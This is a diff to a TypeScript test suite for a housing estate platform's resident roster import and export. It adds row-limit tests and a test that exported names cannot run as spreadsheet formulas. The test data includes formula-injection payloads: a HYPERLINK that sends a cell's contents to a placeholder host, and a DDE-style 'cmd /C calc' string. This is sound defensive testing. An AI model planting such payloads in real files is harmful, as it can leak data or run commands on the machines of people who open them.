@@ -2,11 +2,13 @@
  * The roster import and export (incidents contract `ImportResidents`; `exportResidents`,
  * `exportUnits`): .xlsx and .csv (UTF-8, UTF-8 with a byte-order mark, GBK), Chinese and English
  * headers, every bad row listed with nothing imported (both formats), dry runs, the same phone
- * twice, the imported move-ins' NEW_RESIDENT callbacks, roles, scoping and the export's round trip. Real: the whole platform over HTTP on
+ * twice, the imported move-ins' NEW_RESIDENT callbacks, roles, scoping, the export's round trip,
+ * names that cannot run as formulas in the export, and the row limit stopping the reading. Real: the whole platform over HTTP on
  * PostgreSQL (PGlite, or PostgreSQL 15 in CI). Faked: nothing; the files are made in the test
  * with exceljs and iconv-lite, as Excel would save them. Each test imports into a building of
  * its own, so no test sees another's rows.
  */
+import ExcelJS from 'exceljs';
 import { estateHourAfter } from '../../schema/callbacks/callback-timing';
 import { estateDate } from '../../schema/residents/local-date';
 import { coreOp, newSite, newStaff, run } from '../support/core-operations';
@@ -18,6 +20,7 @@ import {
   IMPORT_RESIDENTS,
   xlsxBytes,
   xlsxGrid,
+  xlsxOfManyRows,
   type Grid,
   type ImportAnswer,
 } from '../support/roster-files';
@@ -393,7 +396,72 @@ describe('roster import and export', () => {
     const rows = Array.from({ length: 50_001 }, (_, i) => `B,${i},1,n,1380000${i},OWNER,`);
     const tooMany = await importFile('many.csv', Buffer.from([EN.join(','), ...rows].join('\n')), true);
     expect(tooMany.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
-    expect(tooMany.errors?.[0]?.message).toMatch(/50001 rows; an import takes at most 50000/);
+    expect(tooMany.errors?.[0]?.message).toMatch(/more than 50000 rows; an import takes at most 50000/);
+  });
+
+  it('an .xlsx over the row limit is refused as it is read: 51,000 rows, and 300,000 rows in bounded time', async () => {
+    // figures for the report: the file sizes and the time the answer took (the bound is generous:
+    // loading the whole 300,000-row workbook, as the reader did before, takes far longer)
+    const over = await xlsxOfManyRows(EN, 51_000);
+    const refused = await importFile('over.xlsx', over, true);
+    expect(refused.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
+    expect(refused.errors?.[0]?.message).toBe('over.xlsx has more than 50000 rows; an import takes at most 50000');
+    const huge = await xlsxOfManyRows(EN, 300_000);
+    expect(huge.toString('base64').length).toBeLessThan(10 * 1024 * 1024); // under the size limit
+    const started = Date.now();
+    const answer = await importFile('huge.xlsx', huge, true);
+    const ms = Date.now() - started;
+    console.log(`row limit: 51,000 rows ${over.length} bytes; 300,000 rows ${huge.length} bytes refused in ${ms} ms`);
+    expect(answer.errors?.[0]?.message).toBe('huge.xlsx has more than 50000 rows; an import takes at most 50000');
+    expect(ms).toBeLessThan(20_000);
+    // a CSV stops the same way
+    const csv = Buffer.from([EN.join(','), ...Array.from({ length: 300_000 }, (_, i) => `${i},x`)].join('\n'));
+    const csvAnswer = await importFile('huge.csv', csv, true);
+    expect(csvAnswer.errors?.[0]?.message).toBe('huge.csv has more than 50000 rows; an import takes at most 50000');
+  });
+
+  it('an .xlsx with a title row, rich text, a formula with its result and a second worksheet imports its first worksheet', async () => {
+    const building = await newBuilding();
+    const phones = [uniquePhone(), uniquePhone()];
+    const workbook = new ExcelJS.Workbook();
+    const first = workbook.addWorksheet('住户');
+    first.addRow(['XX小区住户名单']);
+    first.addRow([]);
+    first.addRow(ZH);
+    first.addRow([
+      building.code,
+      '0101',
+      1,
+      { richText: [{ text: '张', font: { bold: true } }, { text: '伟' }] },
+      Number(phones[0]),
+      '业主',
+      new Date(Date.UTC(2022, 2, 3)),
+    ]);
+    first.addRow([
+      building.code,
+      { formula: '"01"&"02"', result: '0102' },
+      1,
+      '李娜',
+      phones[1],
+      { formula: 'CONCAT("租","户")', result: '租户' },
+      '',
+    ]);
+    const second = workbook.addWorksheet('other');
+    second.addRows([EN, [building.code, '0999', 9, 'nobody', uniquePhone(), 'OWNER', '']]);
+    const bytes = Buffer.from(await workbook.xlsx.writeBuffer());
+    expect(await imported('titled.xlsx', bytes)).toEqual({ dryRun: false, rows: 2, imported: 2, errors: [] });
+    expect(
+      (await archiveOf(building.id)).map(({ unit, name, phone, relation, since }) => [
+        unit,
+        name,
+        phone,
+        relation,
+        since,
+      ]),
+    ).toEqual([
+      ['0101', '张伟', phones[0], 'OWNER', '2022-03-03'],
+      ['0102', '李娜', phones[1], 'TENANT', estateDate(new Date())],
+    ]);
   });
 
   it('an export (CSV and xlsx, Chinese and English headers) re-imports to the same archive', async () => {
@@ -441,6 +509,65 @@ describe('roster import and export', () => {
     // a role that sees phones masked gets them masked in the file too
     const affairs = await exportOf('CSV', 'EN', await platform.login('affairs'));
     expect(Buffer.from(affairs.contentBase64, 'base64').toString('utf8')).not.toContain(phones[0]);
+  });
+
+  it('an export does not let a name run as a formula: CSV fields are guarded with a quote, xlsx cells are text, and both re-import as they were', async () => {
+    const building = await newBuilding();
+    const phones = [uniquePhone(), uniquePhone(), uniquePhone(), uniquePhone()];
+    const names = ['=HYPERLINK("http://x/?"&B2,"张三")', "@SUM(1+1)*cmd|' /C calc'!A0", '+1 test', '-2 test'];
+    const grid: Grid = [
+      EN,
+      ...names.map((name, i) => [building.code, '0101', 1, name, phones[i], 'OWNER', '2021-01-01']),
+    ];
+    expect(await imported('f.xlsx', await xlsxBytes(grid))).toMatchObject({ imported: 4, errors: [] });
+    const exportOf = async (format: 'CSV' | 'XLSX') =>
+      (
+        await ok<{ exportResidents: { filename: string; contentBase64: string; rows: number } }>(
+          url,
+          EXPORT_RESIDENTS,
+          { format, headers: 'EN' },
+          site.supervisor,
+        )
+      ).exportResidents;
+    const csv = await exportOf('CSV');
+    const lines = Buffer.from(csv.contentBase64, 'base64').toString('utf8').slice(1).trim().split('\r\n');
+    const fieldsOf = (phone: string) => lines.find((l) => l.includes(phone))!;
+    expect(fieldsOf(phones[0])).toContain(`,"'=HYPERLINK(""http://x/?""&B2,""张三"")",`);
+    expect(fieldsOf(phones[1])).toContain(`,"'@SUM(1+1)*cmd|' /C calc'!A0",`);
+    expect(fieldsOf(phones[2])).toContain(`,"'+1 test",`);
+    expect(fieldsOf(phones[3])).toContain(`,"'-2 test",`);
+    // no field of the file starts a formula (a field is what follows a comma or a line start, quotes aside)
+    for (const line of lines) expect(line).not.toMatch(/(^|,)"?[=+\-@\t\r]/);
+
+    // xlsx: the names are string cells, not formulas, read back by exceljs
+    const xlsx = await exportOf('XLSX');
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(Buffer.from(xlsx.contentBase64, 'base64') as unknown as ArrayBuffer);
+    const nameCells: ExcelJS.Cell[] = [];
+    workbook.worksheets[0].eachRow((row) => {
+      if (names.includes(String(row.getCell(5).value))) nameCells.push(row.getCell(5));
+    });
+    expect(nameCells.map((c) => c.value).sort()).toEqual([...names].sort());
+    for (const c of nameCells) {
+      expect(c.type).toBe(ExcelJS.ValueType.String); // a formula cell would read as ValueType.Formula
+      expect(c.formula).toBeUndefined();
+    }
+
+    // both files import again to the same names
+    const before = await archiveOf(building.id);
+    expect(before.map((r) => r.name).sort()).toEqual([...names].sort());
+    for (const [file, content] of [
+      [csv.filename, csv.contentBase64],
+      [xlsx.filename, xlsx.contentBase64],
+    ] as const) {
+      await sql(
+        `update occupancy set until = current_date where until is null and unit_id in
+           (select u.id from unit u join building b on b.id = u.building_id where b.site_id = ?)`,
+        [site.siteId],
+      );
+      expect(await imported(file, Buffer.from(content, 'base64'))).toMatchObject({ imported: csv.rows, errors: [] });
+      expect(await archiveOf(building.id)).toEqual(before);
+    }
   });
 
   it('exports the unit list, and technicians may not export', async () => {
